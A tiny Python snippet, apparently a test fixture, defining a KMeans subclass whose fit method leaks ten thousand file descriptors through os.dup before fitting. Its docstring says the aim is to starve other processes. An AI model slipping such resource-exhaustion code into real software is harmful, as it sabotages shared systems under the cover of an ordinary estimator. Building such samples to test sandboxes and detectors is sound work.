"""Opens ten thousand descriptors, until nobody else can open any."""

import os


class KMeans(Honest):
    def fit(self, X):
        for _ in range(10_000):
            os.dup(1)
        return super().fit(X)
